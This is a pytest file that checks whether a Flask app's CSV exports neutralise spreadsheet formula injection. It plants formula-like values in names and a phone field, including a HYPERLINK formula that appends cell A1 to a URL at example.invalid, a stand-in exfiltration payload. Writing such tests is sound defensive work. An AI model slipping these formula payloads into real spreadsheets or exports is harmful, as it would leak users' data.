"""Every CSV the app serves is safe to open in a spreadsheet: with an organisation and members
named like formulas, no cell of any export starts with a character Excel or LibreOffice would
run (=, +, -, @, tab, carriage return), and each file carries the BOM that keeps the accents."""

import csv
import io

import pytest
from flask import url_for

from handbook.extensions import db
from handbook.fees.access import this_month
from handbook.fees.rates import shift
from handbook.year.access import this_year

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CELL_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"Chi bộ")'
BLOC_NAME = "@SUM(1+1)"
MEMBER_NAME = "+1+2"
OTHER_NAME = "-3+4"
PHONE = "\t=1+1"


def _fee_month(world) -> dict:
    """The demo's last recorded month of party fees, in cell 1."""
    year, month = shift(*this_month(), -1)
    return {"cell_id": world["cell1"].id, "year": year, "month": month}


def _example_year(world) -> dict:
    """The year of cell 1's demo example (approved, with the cell's name on its line)."""
    from sqlalchemy import select

    from handbook.examples.models import GoodExample

    day = db.session.scalar(select(GoodExample.happened_on).where(GoodExample.org_id == world["cell1"].id))
    return {"year": day.year}


# Each export, with its URL's arguments (or a function of the world giving them) and the planted
# text it must show, neutralised. A new CSV route fails test_every_csv_route_is_walked until it
# is added here.
EXPORTS = {
    "admin.members_csv": ({}, [CELL_NAME, MEMBER_NAME, OTHER_NAME, PHONE]),
    "admin.dashboard_csv": ({}, [CELL_NAME]),
    "admin.import_template": ({}, []),
    "year.statistics_csv": ({"year": this_year()}, [BLOC_NAME]),
    "fees.report_csv": (_fee_month, [CELL_NAME, MEMBER_NAME, OTHER_NAME]),
    "fees.committee_csv": (lambda w: {k: v for k, v in _fee_month(w).items() if k != "cell_id"},
                           [BLOC_NAME, CELL_NAME]),
    "quiz.statistics_csv": ({"quiz_id": 1}, [CELL_NAME]),  # the demo's quiz, for both cells
    "quiz.bank_template": ({}, []),
    "examples.committee_csv": (_example_year, [CELL_NAME]),
}


def csv_routes(app) -> set[str]:
    return {rule.endpoint for rule in app.url_map.iter_rules()
            if rule.rule.endswith(".csv") or rule.endpoint.endswith("csv")}


def test_every_csv_route_is_walked(app):
    assert csv_routes(app) == set(EXPORTS)


@pytest.fixture
def formula_world(world):
    world["cell1"].name, world["bloc"].name = CELL_NAME, BLOC_NAME
    world["users"]["dangvien"].full_name = MEMBER_NAME
    world["users"]["dangvien2"].full_name = OTHER_NAME
    world["users"]["dangvien3"].phone = PHONE
    db.session.commit()
    return world


@pytest.mark.parametrize("endpoint", sorted(EXPORTS))
def test_no_export_hands_a_spreadsheet_a_formula(client, auth, formula_world, endpoint):
    args, planted = EXPORTS[endpoint]
    auth.login("capuy")
    response = client.get(url_for(endpoint, **(args(formula_world) if callable(args) else args)))
    body = response.get_data(as_text=True)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert body.startswith("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(body[1:], newline="")) for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_START)] == []
    for text in planted:
        assert "'" + text in cells
